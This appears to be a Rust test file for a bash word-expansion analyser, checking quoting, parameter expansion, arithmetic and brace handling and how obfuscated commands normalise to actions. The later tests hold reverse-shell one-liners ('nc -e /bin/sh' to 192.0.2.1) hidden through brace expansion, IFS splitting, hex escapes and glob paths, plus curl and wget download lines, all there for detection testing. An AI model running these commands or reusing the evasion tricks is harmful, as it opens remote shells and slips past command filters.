//! Words: quoting, expansion, splitting, braces, patterns and arithmetic.

use super::{check, check_prints};

#[test]
fn quotes() {
    check_prints(&[
        ("echo w'h'o'am'i", "whoami\n"),
        (r"echo w\h\o\a\m\i", "whoami\n"),
        ("echo \"a  b\"  c", "a  b c\n"),
        (r"echo $'\x6e\143'", "nc\n"),
        ("echo $\"a b\"", "a b\n"),
        ("echo a''b\"\"c", "abc\n"),
        ("echo 'a'\\''b'", "a'b\n"),
        ("echo \"a\\\"b\\$c\"", "a\"b$c\n"),
        ("echo a\\\nb", "ab\n"),
        ("echo 'a\nb'", "a\nb\n"),
        ("echo a#b # c", "a#b\n"),
        ("echo a\r\necho b\r\n", "a\nb\n"),
        ("echo \"unterminated", "unterminated\n"),
        ("echo 'unterminated", "unterminated\n"),
        ("echo \"$(echo \"in \\\"side\\\"\")\"", "in \"side\"\n"),
        ("echo `echo a\\`echo b\\``", "ab\n"),
        ("echo \"`echo \\\"x y\\\"`\"", "x y\n"),
        ("printf '%s.' \"\" ''", ".."),
        ("printf '%s.' $(true)", "."),
    ]);
}

#[test]
fn parameters() {
    check_prints(&[
        ("x=abcdef; echo ${x:1:2} ${x: -2} ${x:2}", "bc ef cdef\n"),
        ("x=abc; echo ${#x}", "3\n"),
        (
            "x=a.b.c; echo ${x#*.} ${x##*.} ${x%.*} ${x%%.*}",
            "b.c c a.b a\n",
        ),
        (
            "x=aXbXc; echo ${x/X/-} ${x//X/} ${x/#a/z} ${x/%c/z}",
            "a-bXc abc zXbXc aXbXz\n",
        ),
        (
            "x=aBc; echo ${x^^} ${x,,} ${x^} ${x~~}",
            "ABC abc ABc AbC\n",
        ),
        ("y=nc; x=y; echo ${!x}", "nc\n"),
        ("x=; echo ${x:-d} ${x-e}.", "d .\n"),
        ("x=v; echo ${x:+set}", "set\n"),
        ("echo ${x:=now} $x", "now now\n"),
        ("x=\"a'b\"; echo ${x@Q}", "'a'\\''b'\n"),
        (
            "a=(x y z); echo ${a[1]} ${a[-1]} ${#a[@]} ${a[@]:1:2}",
            "y z 3 y z\n",
        ),
        (
            "a=(x y); a+=(z); echo \"${a[*]}\" ${!a[@]}",
            "x y z 0 1 2\n",
        ),
        (
            "declare -A m; m[k]=v; m['j']=w; echo ${m[k]} ${m[j]}",
            "v w\n",
        ),
        (
            "declare -A m=([a]=1 [b]=2); for k in a b; do echo ${m[$k]}; done",
            "1\n2\n",
        ),
        ("a=([2]=c [0]=a); echo ${a[@]}", "a c\n"),
        ("x=ab; x+=cd; echo $x", "abcd\n"),
        (
            "set -- a b c; echo $2 $# \"$*\"; shift; echo $1",
            "b 3 a b c\nb\n",
        ),
        (
            "set -- 'a b' c; for i; do echo \"<$i>\"; done",
            "<a b>\n<c>\n",
        ),
        ("set -- x y; printf '%s.' \"1$@2\"", "1x.y2."),
        ("IFS=-; set -- a b; echo \"$*\"", "a-b\n"),
        (
            "x='a  b'; printf '%s.' $x; printf '%s.' \"$x\"",
            "a.b.a  b.",
        ),
        ("x=1; unset x; echo ${x:-gone}", "gone\n"),
        ("echo ${PATH:0:1}bin${HOME:0:1}sh", "/bin/sh\n"),
        ("echo ${SHELL##*/}", "bash\n"),
        ("x=abc; x=${x%c}${x:0:1}; echo $x", "aba\n"),
        ("p='*.'; x=a.b; echo ${x#$p}", "b\n"),
        ("x=a*b; echo \"${x/\\*/-}\"", "a-b\n"),
        ("v_a=1; v_b=2; echo ${!v_*}", "v_a v_b\n"),
        ("x='$(id)'; echo \"$x\"", "$(id)\n"),
        ("echo ~root/x", "/root/x\n"),
        ("declare -l x=NC; declare -u y=nc; echo $x $y", "nc NC\n"),
        ("printf -v x '%s' abc; echo $x", "abc\n"),
        (
            "read a b <<< 'one two three'; echo $b,$a",
            "two three,one\n",
        ),
        ("IFS=: read -r a b <<< 'x:y z'; echo $b", "y z\n"),
        ("read -ra w <<< 'a b c'; echo ${w[2]}", "c\n"),
        ("mapfile -t l <<< $'p\\nq'; echo ${l[1]}", "q\n"),
        ("let x=2+3; echo $x", "5\n"),
        ("export X=1 Y='a b'; echo $Y$X", "a b1\n"),
    ]);
}

#[test]
fn arithmetic() {
    check_prints(&[
        ("echo $((1+2*3))", "7\n"),
        (
            "echo $((16#ff)) $((0x1f)) $((010)) $((2#101))",
            "255 31 8 5\n",
        ),
        ("echo $(( (1<<4) | 3 )) $((7%4)) $((2**10))", "19 3 1024\n"),
        ("x=5; echo $((x+1)) $(($x*2)) $((x++)) $x", "6 10 5 6\n"),
        ("echo $((1?2:3)) $((0||1)) $((!0)) $((~0))", "2 1 1 -1\n"),
        ("a=(3 4); echo $((a[1]*2))", "8\n"),
        ("((x=3)); ((x+=2)); echo $x", "5\n"),
        ("echo $[1+1]", "2\n"),
        ("x=y; y=4; echo $((x))", "4\n"),
        ("echo $((5-3-1)) $((2**3**2)) $((-7/2))", "1 512 -3\n"),
        ("for ((i=0;i<3;i++)); do echo $i; done", "0\n1\n2\n"),
        ("echo $((1,2))", "2\n"),
    ]);
}

#[test]
fn braces_and_patterns() {
    check_prints(&[
        ("echo {a,b}{1,2}", "a1 a2 b1 b2\n"),
        (
            "echo {1..4} {a..c} {01..03} {5..1..2}",
            "1 2 3 4 a b c 01 02 03 5 3 1\n",
        ),
        ("echo x{a,{b,c}}y", "xay xby xcy\n"),
        ("echo {} {a} {a,b", "{} {a} {a,b\n"),
        ("x=1; echo {$x,'2 3'}", "1 2 3\n"),
        ("echo \"{a,b}\"", "{a,b}\n"),
        ("echo /bin/c?t /???/b??h", "/bin/cat /bin/bash\n"),
        ("echo '/bin/c?t'", "/bin/c?t\n"),
    ]);
    check(&[
        (
            "{nc,-e,/bin/sh,192.0.2.1,443}",
            "connect 1 192.0.2.1 443 ; /bin/sh <#1 >#1",
        ),
        ("/bin/[s]h -c id", "eval id"),
        ("/???/b??h -c id", "eval id"),
        ("/u?r/b?n/b[a]sh -c id", "eval id"),
    ]);
}

#[test]
fn words_of_unknown_values() {
    check(&[
        ("foo \"$1\" $HOST", "foo {argument} {HOST}"),
        (
            "x=\"curl http://$HOST/a -o /tmp/a\"; $x",
            "fetch http://{HOST}/a > /tmp/a",
        ),
        ("b$@ash -c id", "eval id"),
        ("ba$*sh -c id", "eval id"),
        (
            "w${q}get http://example.com/a",
            "fetch http://example.com/a > a",
        ),
        ("\"$0\" -c id", "eval id"),
        ("$SHELL -c id", "eval id"),
        ("${X:-nc} 192.0.2.1 80", "connect 1 192.0.2.1 80"),
        (
            "H=192.0.2.1; [ -n \"$1\" ] && H=$1; nc $H 80",
            "connect 1 192.0.2.1 80",
        ),
        ("foo ${A:-b c} \"${D:-e f}\"", "foo b c e f"),
    ]);
}

#[test]
fn field_separators_as_a_trick() {
    check(&[
        (
            "IFS=,;x='nc,-e,/bin/sh,192.0.2.1,443';$x",
            "connect 1 192.0.2.1 443 ; /bin/sh <#1 >#1",
        ),
        ("nc${IFS}192.0.2.1${IFS}443", "connect 1 192.0.2.1 443"),
        (
            "X=$'nc\\x20192.0.2.1\\x20443'&&$X",
            "connect 1 192.0.2.1 443",
        ),
        (
            "nc$IFS-e$IFS'/bin/sh'$IFS'192.0.2.1'${IFS}9",
            "connect 1 192.0.2.1 9 ; /bin/sh <#1 >#1",
        ),
        ("IFS=]; a=nc]192.0.2.1]9; $a", "connect 1 192.0.2.1 9"),
    ]);
}
